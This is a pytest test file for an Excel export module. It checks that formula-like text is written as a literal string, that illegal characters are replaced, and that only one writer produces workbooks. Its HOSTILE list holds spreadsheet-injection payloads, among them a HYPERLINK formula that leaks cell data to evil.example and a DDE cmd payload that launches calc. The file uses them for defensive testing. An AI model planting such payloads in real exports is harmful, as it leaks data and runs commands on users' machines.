"""The one Excel export writer (issue 9 defect 5): text stays text, characters XML cannot hold do not break it."""

from __future__ import annotations

import ast
import datetime as dt
import io
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from aftersales.core import xlsx

PACKAGE = Path(__file__).resolve().parents[2]
HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def written(*values) -> tuple[bytes, list]:
    """Write one data row of `values`; return the file and the row's cells as openpyxl reads them back."""
    book = xlsx.Workbook()
    book.sheet("表", [(f"列{i}", 10) for i in range(len(values))]).append(values)
    data = book.to_bytes()
    return data, list(openpyxl.load_workbook(io.BytesIO(data)).active[2])


def sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/"))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_text_is_written_as_a_literal_string(text):
    data, (cell,) = written(text)
    assert "<f>" not in sheet_xml(data)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (xlsx.clean_text(text), "s", True)


@pytest.mark.parametrize("text", ["#N/A", "#DIV/0!", "#REF!"])
def test_a_text_that_reads_like_an_error_value_stays_text(text):
    _, (cell,) = written(text)
    assert (cell.value, cell.data_type) == (text, "s")


def test_plain_text_has_no_quote_prefix_and_numbers_stay_numbers():
    _, cells = written("合肥市第一人民医院", "0551-62799596", -5, Decimal("880.00"), 3.5)
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("合肥市第一人民医院", "s", False),
        ("0551-62799596", "s", False),
        (-5, "n", False),
        (880, "n", False),
        (3.5, "n", False),
    ]


def test_a_control_character_is_replaced_instead_of_failing_the_export():
    _, cells = written("坏\x0b名", "a\x00b\x1fc", "第一行\n第二行\t制表", "甲\r\n乙\r丙")
    assert [c.value for c in cells] == ["坏\ufffd名", "a\ufffdb\ufffdc", "第一行\n第二行\t制表", "甲\n乙\n丙"]


def test_the_illegal_characters_are_openpyxls_own():
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    assert xlsx.ILLEGAL_CHARACTERS_RE.pattern == ILLEGAL_CHARACTERS_RE.pattern


def test_dates_are_excel_dates_and_aware_times_are_china_time():
    _, cells = written(dt.date(2026, 3, 1), dt.datetime(2026, 3, 1, 2, 30, tzinfo=dt.UTC))
    assert [(c.value, c.number_format) for c in cells] == [
        (dt.datetime(2026, 3, 1), "yyyy-mm-dd"),  # noqa: DTZ001 - Excel's times are naive
        (dt.datetime(2026, 3, 1, 10, 30), "yyyy-mm-dd hh:mm"),  # noqa: DTZ001
    ]


def test_a_header_row_frozen_and_a_banner_above_it():
    book = xlsx.Workbook()
    sheet = book.sheet("补货清单", [("=名称", 20), ("金额", 12)], banner="=补货清单", number_formats={1: "#,##0.00"})
    sheet.append(["合计", Decimal("5280.00")], bold=True)
    data = book.to_bytes()
    read = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [[c.value for c in row] for row in read.iter_rows()] == [
        ["=补货清单", None],
        ["=名称", "金额"],
        ["合计", 5280],
    ]
    assert (read.freeze_panes, read["B3"].number_format, read["A3"].font.b) == ("A3", "#,##0.00", True)
    assert "<f>" not in sheet_xml(data)


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cs",)), max_size=40))
def test_any_text_reads_back_as_the_cleaned_text_and_never_as_a_formula(text):
    data, (cell,) = written(text)
    expected = xlsx.clean_text(text)
    assert "<f>" not in sheet_xml(data)
    if expected:
        assert (cell.value, cell.data_type) == (expected, "s")
        assert cell.quotePrefix == xlsx.looks_like_formula(expected)
        assert cell.quotePrefix or not expected.lstrip().startswith(("=", "+", "-", "@"))
    assert xlsx.ILLEGAL_CHARACTERS_RE.search(expected) is None


def test_the_download_names_the_file_in_unicode_with_an_ascii_fallback():
    response = xlsx.download(b"PK", "客户设备档案-20261126.xlsx", "archive-20261126.xlsx")
    assert response["Content-Type"] == xlsx.XLSX_CONTENT_TYPE
    assert response["Content-Disposition"] == (
        "attachment; filename=\"archive-20261126.xlsx\"; filename*=UTF-8''"
        "%E5%AE%A2%E6%88%B7%E8%AE%BE%E5%A4%87%E6%A1%A3%E6%A1%88-20261126.xlsx"
    )


# ------------------------------------------------------------------------------------------ one writer only

WRITER_NAMES = {"Workbook", "WriteOnlyCell", "Worksheet"}
WRITER_MODULES = ("openpyxl.cell", "openpyxl.styles", "openpyxl.writer", "openpyxl.workbook", "openpyxl.worksheet")


def _writes_workbooks(tree: ast.AST) -> list[str]:
    """What of openpyxl's writing API a module uses (load_workbook and the exceptions, for reading, are allowed)."""
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            module = node.module or ""
            found += [
                f"{module}.{alias.name}"
                for alias in node.names
                if alias.name in WRITER_NAMES or module.startswith(WRITER_MODULES)
            ]
        elif isinstance(node, ast.Attribute) and node.attr in WRITER_NAMES:
            if isinstance(node.value, ast.Name) and node.value.id == "openpyxl":
                found.append(f"openpyxl.{node.attr}")
    return found


def test_the_check_below_sees_a_workbook_written_by_hand():
    source = "import openpyxl\nfrom openpyxl.styles import Font\nbook = openpyxl.Workbook(write_only=True)\n"
    assert _writes_workbooks(ast.parse(source)) == ["openpyxl.styles.Font", "openpyxl.Workbook"]


def test_every_excel_file_is_written_by_the_one_writer():
    offenders = {}
    writer = PACKAGE / "core" / "xlsx.py"
    for path in PACKAGE.rglob("*.py"):
        if path == writer or "tests" in path.parts:
            continue
        names = _writes_workbooks(ast.parse(path.read_text(encoding="utf-8")))
        if names:
            offenders[str(path.relative_to(PACKAGE))] = names
    assert offenders == {}


# ------------------------------------------------------------------------------ the streaming writer too


def streamed(*values) -> tuple[bytes, list]:
    """`written`, through `StreamingWorkbook` (the big exports' writer)."""
    target = io.BytesIO()
    book = xlsx.StreamingWorkbook(target, "表", [(f"列{i}", 10) for i in range(len(values))])
    book.append(values)
    book.close()
    data = target.getvalue()
    return data, list(openpyxl.load_workbook(io.BytesIO(data)).active[2])


@pytest.mark.parametrize("text", HOSTILE)
def test_the_streaming_writer_writes_a_formula_like_text_as_a_literal_string(text):
    data, (cell,) = streamed(text)
    assert "<f>" not in sheet_xml(data)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (xlsx.clean_text(text), "s", True)


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(exclude_categories=("Cs",)), max_size=40))
def test_the_streaming_writer_reads_back_any_text_as_the_one_writer_does(text):
    data, (cell,) = streamed(text)
    _, (expected,) = written(text)
    assert "<f>" not in sheet_xml(data)
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (
        expected.value,
        expected.data_type,
        bool(expected.quotePrefix),
    )
